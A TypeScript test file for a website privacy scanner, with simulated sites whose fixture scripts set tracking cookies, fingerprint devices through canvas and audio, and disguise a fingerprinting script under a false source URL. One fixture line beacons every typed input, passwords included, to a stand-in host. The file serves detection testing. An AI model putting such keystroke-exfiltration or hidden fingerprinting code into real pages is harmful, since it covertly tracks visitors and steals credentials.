import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { after, before, test } from 'node:test'
import { loaderHtml } from '@portico/visitor/delivered'
import { findProgram } from '../../server/test/programs.ts'
import type { PassEvidence } from '../src/kit/evidence.ts'
import { type AnalysisWorkers, openAnalysisWorkers, type TownAnalysis } from './town/lanes.ts'
import type { TownPlan } from './town/plan.ts'
import { type InstalledSite, porticoAnswer } from './town/portico.ts'
import { siteIdOf, type TownAnswer, type TownSite } from './town/site.ts'

// One website that does everything at once that is seen by what happens, not by what stands there.

const NODE = `{ type: 2, tagName: 'div', attributes: {}, childNodes: [{ type: 3, childNodes: [] }] }`
const HOME = `<!doctype html>
<html lang="de" class="has-footer"><head><title>Everything</title>
<script>
  const script = document.createElement('script')
  script.src = 'https://manager.example/manager.js'
  document.head.append(script)
</script>
<script>localStorage.setItem('theme', 'dark'); caches.open('offline'); indexedDB.open('drafts')</script>
</head><body><nav><a href="/shop">Shop</a></nav><h1>Everything</h1>
<form action="http://www.senses.example/login"><input type="email" name="mail" onchange="fetch('/draft', { method: 'POST', body: value }); form.submit()"><input type="password" name="word"></form>
<p>${'Bread and rolls, every day. '.repeat(20)}</p><div style="height: 2000px"></div>
<img loading="lazy" width="1" height="1" src="https://below.example/pixel.gif">
<script>addEventListener('scroll', () => void fetch('https://scrolled.example/', { mode: 'no-cors' }), { once: true })</script>
<script>
  const waitsFor = new Set(['keydown', 'mousemove', 'mouseover', 'wheel', 'touchstart', 'touchmove', 'touchend'])
  const delay = ({ type }) => waitsFor.delete(type) && waitsFor.size === 0 && setTimeout(fetch, 100, 'https://delayed.example/', { mode: 'no-cors' })
  for (const event of waitsFor) addEventListener(event, delay)
</script>
<div>Bakery, Mill Road 1 <a href="/daten">Daten</a></div>
<div style="position: fixed; top: 0">Only today! <a href="/offer">Offer</a></div>
</body></html>`

const MANAGER = `
  const id = 1e9 + crypto.getRandomValues(new Uint32Array(1))[0] % 1e9 + '.' + Math.floor(Date.now() / 1000)
  document.cookie = '_who=W1.' + id + '; max-age=63072000; secure'
  cookieStore.set({ name: '_late', value: 'yes', expires: Date.now() + 3_600_000 })
  fetch('https://collect.example/hit?cid=' + id, { mode: 'no-cors' })
  navigator.sendBeacon('https://recorder.example/events', new Blob([JSON.stringify([${NODE}, ${NODE}])]))
  navigator.sendBeacon('/metrics/collect', 'v=2')
  new WebSocket('wss://chat.example/live')
  addEventListener('input', ({ target }) => navigator.sendBeacon('https://keys.example/typed', target.value))
  const canvas = document.createElement('canvas')
  const context = canvas.getContext('2d')
  context.fillText('Cwm fjordbank gly', 2, 15)
  canvas.toDataURL()
  const audio = new OfflineAudioContext(1, 500, 44100)
  const tone = audio.createOscillator()
  tone.connect(audio.destination)
  tone.start()
  audio.startRendering().then((heard) => heard.getChannelData(0))`

/** What WordPress does on every page. */
const EMOJI = `
  const small = document.createElement('canvas').getContext('2d')
  for (const emoji of ['\\u{1f3f3}\\ufe0f\\u200d\\u26a7\\ufe0f', '\\u{1f3f4}\\u{e0067}\\u{e0062}\\u{e0065}\\u{e006e}\\u{e0067}\\u{e007f}']) {
    small.fillText(emoji, 0, 0)
    small.getImageData(0, 0, 300, 150)
  }`

/** It calls itself by the address of somebody whom nobody asks for anything. */
const LIE = `
  const hidden = document.createElement('canvas').getContext('2d')
  hidden.fillText('Cwm fjordbank gly', 2, 15)
  hidden.canvas.toDataURL()
  //# sourceURL=https://innocent.example/fp.js`

const text = (type: string, body: string): TownAnswer => ({
  type,
  body,
  headers: { 'access-control-allow-origin': '*' },
})

const SITE: TownSite = {
  name: 'senses',
  url: 'https://www.senses.example/',
  hosts: ['www.senses.example'],
  site: siteIdOf('senses'),
  published: null,
  truths: [],
  answer(path) {
    const session = `session=${randomBytes(16).toString('hex')}; Path=/; HttpOnly; Secure`
    if (path === '/')
      return {
        headers: { 'set-cookie': [session, 'language=de; Path=/'] },
        body: HOME.replace('</head>', '<script src="/emoji.js"></script></head>').replace(
          '</body>',
          `<script>{${LIE}\n}</script></body>`,
        ),
      }
    return path === '/emoji.js' ? text('text/javascript', EMOJI) : null
  },
}

/** It lets nobody come too often: who was there, and who sends a signal, on a page behind the first. */
function openTired(): TownSite {
  let home = 0
  const tired: TownAnswer = { status: 429, type: 'text/html', body: '<h1>Too many requests' }
  const banner = `<div id="cookies" style="position: fixed; bottom: 0; width: 100%; background: #fff">
    <p>We use cookies to count visitors. Do you agree?</p>
    <button onclick="answer(1)">Accept all</button> <button onclick="answer(0)">Reject all</button></div>
    <script>function answer(yes) { localStorage.setItem('answer', yes); document.getElementById('cookies').remove() }</script>`
  return {
    name: 'tired',
    url: 'https://www.tired.example/',
    hosts: ['www.tired.example'],
    site: siteIdOf('tired'),
    published: null,
    truths: [],
    answer(path, _, { headers }) {
      const hasSignal = headers['sec-gpc'] === '1'
      if (path === '/')
        return hasSignal || home++ === 0 ? { body: `<title>Home</title><a href="/about">About</a>${banner}` } : tired
      if (path === '/about') return hasSignal ? tired : { body: '<title>About</title><p>Bread' }
      return null
    },
  }
}
const TIRED = openTired()

/**
 * With the loader, and a counter that it holds back. Where a visit is `late`, our script comes once that very visit has asked for
 * the counter: after the loader has let go.
 */
function openLoaded(name: string, late: 'once' | 'always') {
  const [host, counter, site] = [`www.${name}.example`, `${name}-counter.example`, siteIdOf(name)]
  const tool = { id: 'counter', name: 'Counter', category: 'analytics', hosts: [counter] } as const
  const installed: InstalledSite = {
    site,
    tools: [{ ...tool, vendor: 'Counter', country: 'ES', policy: null, stored: [] }],
  }
  /** Of each visit. */
  const counted: PromiseWithResolvers<void>[] = []
  const isFirst = { plain: true, signal: true }
  const home = (hasSignal: boolean): TownAnswer => {
    const visit = counted.push(Promise.withResolvers()) - 1
    const of = hasSignal ? 'signal' : 'plain'
    if (late === 'once' && !isFirst[of]) counted[visit]?.resolve()
    isFirst[of] = false
    const add = `document.head.append(Object.assign(document.createElement('script'), { src: 'https://${counter}/?${visit}' }))`
    return {
      body: `<!doctype html><html lang="en"><head><title>Held</title>
        ${loaderHtml(`https://${host}/s/${site}.js?${visit}`, [], null, 1)}<script>${add}</script></head><body><p>Bread</p></body>`,
    }
  }
  const website: TownSite = {
    name,
    url: `https://${host}/`,
    hosts: [host, counter],
    site,
    published: null,
    truths: [],
    answer(path, to, { url, headers }) {
      const visit = counted[Number(url?.split('?')[1] ?? -1)]
      if (to === counter) {
        visit?.resolve()
        return text('text/javascript', 'document.cookie = "counted=yes"')
      }
      if (path === '/') return home(headers['sec-gpc'] === '1')
      if (!path.startsWith('/s/')) return null
      const answer = porticoAnswer(path, [installed])
      return visit === undefined ? answer : { ...answer, after: visit.promise }
    },
  }
  return { website, counter }
}
const ONCE_LATE = openLoaded('once', 'once')
const ALWAYS_LATE = openLoaded('always', 'always')

const PLAN: TownPlan = {
  title: 'Senses',
  sites: [SITE, TIRED, ONCE_LATE.website, ALWAYS_LATE.website],
  reported: [SITE, TIRED],
  installed: [],
  party: (host) => {
    if (host === 'manager.example') return text('text/javascript', MANAGER)
    return host.endsWith('.example') ? text('text/plain', '') : null
  },
  evidence: new URL('./', import.meta.url),
}

const executablePath = await findProgram('chromium')
const skip = executablePath === null ? 'There is no Chromium: set CHROMIUM_PATH.' : false
let lanes: AnalysisWorkers
let analysis: TownAnalysis
let silent: PassEvidence['visits'][number]

before(async () => {
  if (executablePath === null) return
  lanes = await openAnalysisWorkers([PLAN], executablePath, 1)
  analysis = await lanes.analyse(SITE)
  const visit = analysis.evidence.passes.find(({ pass }) => pass === 'silent')?.visits[0]
  assert.ok(visit)
  silent = visit
})
after(() => lanes?.close())

test('a request has the line and the script that asked for it, and what had happened before', { skip }, () => {
  const of = (host: string) => silent.requests.find((request) => request.host === host)
  const manager = 'https://manager.example/manager.js'
  assert.deepEqual([of('manager.example')?.line, of('manager.example')?.initiator], [6, null])
  assert.deepEqual([of('collect.example')?.line, of('collect.example')?.initiator], [null, manager])
  assert.deepEqual([of('below.example')?.line, of('below.example')?.initiator], [12, null])
  assert.deepEqual(
    ['manager.example', 'scrolled.example', 'delayed.example'].map((host) => of(host)?.after),
    ['load', 'scroll', 'scroll'],
  )
  assert.deepEqual([of('chat.example')?.url, of('chat.example')?.kind], ['wss://chat.example/live', 'socket'])
  const recording = silent.requests.filter((request) => request.recording).map(({ host }) => host)
  assert.deepEqual(recording, ['recorder.example'])
  assert.deepEqual(
    silent.ownRequests.map(({ url, kind, initiator }) => [url, kind, initiator]),
    [
      ['https://www.senses.example/emoji.js', 'script', null],
      ['https://www.senses.example/metrics/collect', 'beacon', manager],
    ],
  )
  const [page] = analysis.evidence.pages
  assert.deepEqual(
    page?.inline.map(({ line, lastLine, names }) => [line, lastLine, names]),
    [
      [3, 7, [manager]],
      [13, 13, ['https://scrolled.example/']],
      [14, 18, ['https://delayed.example/']],
    ],
  )
})

test('what is stored has who did it and how, whether it tells visitors apart, and who was sent it', { skip }, () => {
  const by = (name: string) => {
    const one = silent.kept.find((item) => item.name === name)
    return [one?.kind, one?.how, one?.by, one?.identifier, one?.sentTo]
  }
  const own = 'www.senses.example'
  assert.deepEqual(by('session'), ['cookie', 'answer', own, true, []])
  assert.deepEqual(by('language'), ['cookie', 'answer', own, false, []])
  assert.deepEqual(by('_who'), ['cookie', 'script', 'manager.example', true, ['collect.example']])
  assert.deepEqual(by('_late'), ['cookie', 'script', 'manager.example', false, []])
  assert.deepEqual(by('theme'), ['local', 'script', own, false, []])
  assert.deepEqual(by('offline'), ['cache', 'script', own, false, []])
  assert.deepEqual(by('drafts'), ['indexed_db', 'script', own, false, []])
})

test('whoever recognises the device or is sent what is typed is reported, and a test for emoji is neither', {
  skip,
}, () => {
  const by = 'https://manager.example/manager.js'
  assert.deepEqual(silent.fingerprints, [
    { method: 'audio', by },
    { method: 'canvas', by: null },
    { method: 'canvas', by },
  ])
  assert.deepEqual(silent.typedSentTo, [{ host: 'keys.example', url: 'https://keys.example/typed' }])
  // Neither they nor the website itself have got it.
  const requests = analysis.requests.filter(({ path }) => /^\/(?:login|draft|typed)/.test(path))
  assert.deepEqual([silent.requests.some(({ host }) => host === 'keys.example'), requests], [false, []])
})

test('a pass in which a page is refused that was there before is not testable', { skip }, async () => {
  const { evidence } = await lanes.analyse(TIRED)
  assert.deepEqual(
    evidence.passes.map(({ pass, state, reason, banner }) => [pass, state, reason, banner]),
    [
      ['silent', 'done', null, 'other'],
      ['reject', 'not_testable', 'not_loaded', 'other'],
      ['accept', 'not_testable', 'not_loaded', 'other'],
      ['gpc', 'not_testable', 'not_loaded', 'other'],
    ],
  )
  assert.equal(evidence.pages.length, 2)
})

const [NEITHER, BOTH] = [
  [false, false],
  [true, true],
]

/** Of each pass how it ended, and for each visit whether the counter was asked for, and whether it has left something behind. */
async function analyseLoaded({ website, counter }: ReturnType<typeof openLoaded>) {
  const { evidence } = await lanes.analyse(website)
  return evidence.passes.map(({ pass, state, reason, visits }) => [
    ...[pass, state, reason],
    visits.map(({ requests, kept }) => [
      requests.some(({ host }) => host === counter),
      kept.some(({ name }) => name === 'counted'),
    ]),
  ])
}

test('a page that the loader has let go is visited again, as somebody new, and judged when our script is in time', {
  skip,
}, async () => {
  assert.deepEqual(await analyseLoaded(ONCE_LATE), [
    ['silent', 'done', null, [NEITHER]],
    ['reject', 'done', null, [NEITHER]],
    ['accept', 'done', null, [BOTH]],
    ['gpc', 'done', null, [NEITHER]],
  ])
})

test('where our script is never in time, nothing is said of what runs without a yes', { skip }, async () => {
  assert.deepEqual(await analyseLoaded(ALWAYS_LATE), [
    ['silent', 'not_testable', 'timed_out', []],
    ['reject', 'not_testable', 'timed_out', []],
    ['accept', 'done', null, [BOTH]],
    ['gpc', 'not_testable', 'timed_out', []],
  ])
})

test('forms have where they send to, and links at the end of a page are its footer', { skip }, () => {
  const [page] = analysis.evidence.pages
  assert.deepEqual(
    page?.forms.map(({ action, personal }) => [action, personal]),
    [['http://www.senses.example/login', true]],
  )
  assert.deepEqual(
    page?.links.map(({ text, footer }) => [text, footer]),
    [
      ['Shop', false],
      ['Daten', true],
      ['Offer', false],
    ],
  )
})
